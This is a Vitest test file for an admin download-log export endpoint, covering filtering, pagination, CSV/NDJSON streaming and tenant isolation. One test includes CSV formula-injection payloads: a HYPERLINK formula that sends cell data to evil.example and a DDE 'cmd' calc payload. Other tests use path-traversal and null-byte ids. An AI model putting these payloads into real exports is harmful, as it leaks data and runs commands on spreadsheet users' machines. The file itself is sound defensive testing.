/**
 * `GET /admin/v1/events`: the tenant's whole download log, filtered, keyset-paginated as
 * JSON, or streamed as CSV / NDJSON (docs/CONTRACT.md §10).
 */
import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { admin, adminFetch, createTenantWithAdminKey, expectError, type IssuerTenant } from "../../helpers/issuer.ts";
import { insertLogRows, parseCsv } from "../../helpers/logRows.ts";

const T0 = Date.parse("2026-03-01T00:00:00.000Z");
const MIN = 60_000;

interface Row {
  id: string;
  at: string;
  order_number: string | null;
  link_id: string;
  file_id: string;
  customer_id: string | null;
  ip: string | null;
  user_agent: string | null;
  outcome: string | null;
  counted: boolean;
  status: number;
  bytes_sent: number | null;
}
interface Page {
  data: Row[];
  next_cursor: string | null;
}

async function addLink(tenant: IssuerTenant, linkId: string, orderNumber: string, fileId: string, customerId: string) {
  await env.DB.prepare(
    "INSERT INTO links (tenant_id, id, order_number, item_id, file_id, customer_id) VALUES (?, ?, ?, ?, ?, ?)",
  )
    .bind(tenant.id, linkId, orderNumber, `i-${linkId}`, fileId, customerId)
    .run();
}

/**
 * One store, two customers: alice (order A1: link la on file fa) and bob (order B1: link lb
 * on file fb), and a link the store signed itself (ls, no D1 row, no order).
 */
let shop: IssuerTenant;
let other: IssuerTenant;
beforeAll(async () => {
  shop = await createTenantWithAdminKey();
  other = await createTenantWithAdminKey();
  await addLink(shop, "la", "A1", "fa", "alice");
  await addLink(shop, "lb", "B1", "fb", "bob");
  await insertLogRows(shop.id, [
    { id: "e1", at: T0 + 1 * MIN, linkId: "la", fileId: "fa", orderNumber: "A1" },
    { id: "e2", at: T0 + 2 * MIN, linkId: "la", fileId: "fa", orderNumber: "A1", outcome: "aborted", bytesSent: 10 },
    {
      id: "e3",
      at: T0 + 3 * MIN,
      linkId: "lb",
      fileId: "fb",
      orderNumber: "B1",
      counted: false,
      reason: "resume",
      status: 206,
      range: "bytes=50-",
    },
    {
      id: "e4",
      at: T0 + 4 * MIN,
      linkId: "lb",
      fileId: "fb",
      orderNumber: "B1",
      status: 403,
      error: "limit_reached",
      counted: false,
      outcome: null,
      bytes: 0,
      bytesSent: 0,
    },
    { id: "e5", at: T0 + 5 * MIN, linkId: "ls", fileId: "fa", orderNumber: null },
    // Same instant as e5: the id breaks the tie, so pages never skip or repeat it.
    { id: "e6", at: T0 + 5 * MIN, linkId: "ls", fileId: "fa", orderNumber: null },
  ]);
  // The other store's rows use the same link and order ids.
  await addLink(other, "la", "A1", "fa", "alice");
  await insertLogRows(other.id, [
    { id: "x1", at: T0 + 1 * MIN, linkId: "la", fileId: "fa", orderNumber: "A1", userAgent: "other-store/1" },
  ]);
});

/** The body as UTF-8 (Response.text() warns about the NDJSON media type). */
async function bodyText(response: Response): Promise<string> {
  return new TextDecoder().decode(await response.arrayBuffer());
}

const ids = (page: Page) => page.data.map((r) => r.id);

async function page(query: string, tenant = shop) {
  const answer = await admin<Page>(tenant, "GET", `/events${query}`);
  expect(answer.status).toBe(200);
  return answer.body;
}

describe("GET /admin/v1/events as JSON", () => {
  it("answers every row of the tenant newest first, with the link's customer", async () => {
    const body = await page("");
    expect(ids(body)).toEqual(["e6", "e5", "e4", "e3", "e2", "e1"]);
    expect(body.next_cursor).toBeNull();
    expect(body.data[3]).toEqual({
      id: "e3",
      at: "2026-03-01T00:03:00.000Z",
      order_number: "B1",
      link_id: "lb",
      file_id: "fb",
      customer_id: "bob",
      ip: "198.51.100.7",
      user_agent: "agent/1",
      country: "DE",
      range: "bytes=50-",
      status: 206,
      bytes: 100,
      bytes_sent: 100,
      outcome: "completed",
      counted: false,
      reason: "resume",
      error: null,
      device: "dev-1",
    });
    // A link the store signed itself has no D1 row: no customer.
    expect(body.data[0]?.customer_id).toBeNull();
  });

  it.each([
    ["from=2026-03-01T00:03:00Z", ["e6", "e5", "e4", "e3"]],
    ["to=2026-03-01T00:03:00Z", ["e2", "e1"]],
    ["from=2026-03-01T01:02:00%2B01:00&to=2026-03-01T00:04:00Z", ["e3", "e2"]],
    ["order_number=A1", ["e2", "e1"]],
    ["link_id=lb", ["e4", "e3"]],
    ["file_id=fa", ["e6", "e5", "e2", "e1"]],
    ["customer_id=alice", ["e2", "e1"]],
    ["customer_id=nobody", []],
    ["outcome=aborted", ["e2"]],
    ["outcome=completed", ["e6", "e5", "e3", "e1"]],
    ["counted=false", ["e4", "e3"]],
    ["counted=true", ["e6", "e5", "e2", "e1"]],
    ["customer_id=bob&counted=false&outcome=completed", ["e3"]],
    ["sort=oldest", ["e1", "e2", "e3", "e4", "e5", "e6"]],
    ["sort=oldest&file_id=fa&counted=true", ["e1", "e2", "e5", "e6"]],
  ])("filters ?%s", async (query, expected) => {
    expect(ids(await page(`?${query}`))).toEqual(expected);
  });

  it.each(["newest", "oldest"])(
    "pages with limit and cursor (%s first) without skipping or repeating a row",
    async (sort) => {
      const all = ids(await page(`?sort=${sort}`));
      const seen: string[] = [];
      let cursor: string | null = null;
      for (let pages = 0; pages < 10; pages++) {
        const body: Page = await page(`?sort=${sort}&limit=2${cursor ? `&cursor=${cursor}` : ""}`);
        expect(body.data.length).toBeLessThanOrEqual(2);
        seen.push(...ids(body));
        cursor = body.next_cursor;
        if (!cursor) break;
      }
      expect(seen).toEqual(all);
    },
  );

  it("keeps filters across pages", async () => {
    const first = await page("?file_id=fa&limit=3");
    expect(ids(first)).toEqual(["e6", "e5", "e2"]);
    expect(ids(await page(`?file_id=fa&limit=3&cursor=${first.next_cursor}`))).toEqual(["e1"]);
  });
});

describe("GET /admin/v1/events as CSV and NDJSON", () => {
  it("streams CSV with a header row, one record per row, parsed back to the JSON rows", async () => {
    const response = await adminFetch(shop, "GET", "/events?format=csv&sort=oldest");
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="download-log-t-.+\.csv"$/);
    const [header, ...records] = parseCsv(await response.text());
    expect(header).toEqual([
      "id",
      "at",
      "order_number",
      "link_id",
      "file_id",
      "customer_id",
      "ip",
      "user_agent",
      "country",
      "range",
      "status",
      "bytes",
      "bytes_sent",
      "outcome",
      "counted",
      "reason",
      "error",
      "device",
    ]);
    expect(records.map((r) => r[0])).toEqual(["e1", "e2", "e3", "e4", "e5", "e6"]);
    expect(records[3]).toEqual([
      "e4",
      "2026-03-01T00:04:00.000Z",
      "B1",
      "lb",
      "fb",
      "bob",
      "198.51.100.7",
      "agent/1",
      "DE",
      "",
      "403",
      "0",
      "0",
      "",
      "false",
      "",
      "limit_reached",
      "dev-1",
    ]);
  });

  it("quotes commas, quotes and newlines and defuses formula cells", async () => {
    const tenant = await createTenantWithAdminKey();
    const agents = [
      'Mozilla/5.0 (X11; Linux) "quoted", with comma',
      "line one\r\nline two\nline three",
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A2)",
      "\tTAB=1",
      "plain agent",
    ];
    await insertLogRows(
      tenant.id,
      agents.map((userAgent, i) => ({ at: T0 + i, userAgent, range: i === 0 ? "bytes=-500" : null })),
    );
    const text = await (await adminFetch(tenant, "GET", "/events?format=csv&sort=oldest")).text();
    const records = parseCsv(text).slice(1);
    expect(records.map((r) => r[7])).toEqual([
      'Mozilla/5.0 (X11; Linux) "quoted", with comma',
      "line one\r\nline two\nline three",
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      "'+1+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(A1:A2)",
      "'\tTAB=1",
      "plain agent",
    ]);
    // Every record has all 18 fields: nothing split a record or a field.
    expect(records.every((r) => r.length === 18)).toBe(true);
    // Numbers are written as numbers, never prefixed.
    expect(records[0]?.slice(10, 13)).toEqual(["200", "100", "100"]);
    expect(text).toContain('"Mozilla/5.0 (X11; Linux) ""quoted"", with comma"');
  });

  it("streams NDJSON: one JSON row per line, the same rows as the JSON pages", async () => {
    const response = await adminFetch(shop, "GET", "/events?format=ndjson&customer_id=bob");
    expect(response.headers.get("Content-Type")).toBe("application/x-ndjson");
    const text = await bodyText(response);
    expect(text.endsWith("\n")).toBe(true);
    const lines = text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as Row);
    expect(lines).toEqual((await page("?customer_id=bob")).data);
  });

  it("exports thousands of rows across D1 pages in order, each exactly once", async () => {
    const tenant = await createTenantWithAdminKey();
    const n = 2345;
    await insertLogRows(
      tenant.id,
      Array.from({ length: n }, (_, i) => ({ id: `r${String(i).padStart(5, "0")}`, at: T0 + Math.floor(i / 3) })),
    );
    const csv = parseCsv(await (await adminFetch(tenant, "GET", "/events?format=csv&sort=oldest")).text());
    expect(csv.length).toBe(n + 1);
    expect(csv.slice(1).map((r) => r[0])).toEqual(
      Array.from({ length: n }, (_, i) => `r${String(i).padStart(5, "0")}`),
    );
    const nd = (await bodyText(await adminFetch(tenant, "GET", "/events?format=ndjson"))).trimEnd().split("\n");
    expect(nd.length).toBe(n);
    expect(new Set(nd.map((l) => (JSON.parse(l) as Row).id)).size).toBe(n);
    expect((JSON.parse(nd[0] as string) as Row).id).toBe(`r${String(n - 1).padStart(5, "0")}`);
  });

  it("answers a header row only when nothing matches", async () => {
    const text = await (await adminFetch(shop, "GET", "/events?format=csv&order_number=none")).text();
    expect(parseCsv(text).length).toBe(1);
    expect(await bodyText(await adminFetch(shop, "GET", "/events?format=ndjson&order_number=none"))).toBe("");
  });
});

describe("GET /admin/v1/events input and isolation", () => {
  it.each([
    ["limt=5", "limt"],
    ["order=A1", "order"],
    ["from=yesterday", "from"],
    ["to=2026-03-01", "to"],
    ["from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z", "to"],
    ["outcome=refused", "outcome"],
    ["counted=yes", "counted"],
    ["sort=asc", "sort"],
    ["format=xlsx", "format"],
    ["limit=0", "limit"],
    ["limit=1001", "limit"],
    ["cursor=abc", "cursor"],
    ["format=csv&limit=10", "limit"],
    ["format=ndjson&cursor=1_e1", "cursor"],
    ["link_id=la&link_id=lb", "link_id"],
    // Ids no link or file can have: the filter would match nothing, silently.
    ["link_id=a%20b", "link_id"],
    ["link_id=" + "l".repeat(65), "link_id"],
    ["file_id=..", "file_id"],
    ["file_id=f%00", "file_id"],
  ])("refuses ?%s with 400 naming %s", async (query, field) => {
    expectError(await admin(shop, "GET", `/events?${query}`), 400, "bad_request", [field]);
  });

  it("needs the admin key", async () => {
    expectError(await admin(shop, "GET", "/events", { key: null }), 401, "auth_required");
    expect((await adminFetch(shop, "GET", "/events?format=csv", { key: null })).status).toBe(401);
  });

  it("shows another tenant's key none of this tenant's rows, whatever the filter or format", async () => {
    expect(ids(await page("", other))).toEqual(["x1"]);
    expect(ids(await page("?link_id=lb", other))).toEqual([]);
    expect(ids(await page("?customer_id=bob", other))).toEqual([]);
    expect(ids(await page("?order_number=A1", other))).toEqual(["x1"]);
    const csv = parseCsv(await (await adminFetch(other, "GET", "/events?format=csv")).text());
    expect(csv.slice(1).map((r) => r[0])).toEqual(["x1"]);
    const nd = await bodyText(await adminFetch(other, "GET", "/events?format=ndjson&file_id=fb"));
    expect(nd).toBe("");
    // And this tenant does not see the other's row under the shared ids.
    expect(ids(await page("?order_number=A1"))).toEqual(["e2", "e1"]);
  });
});
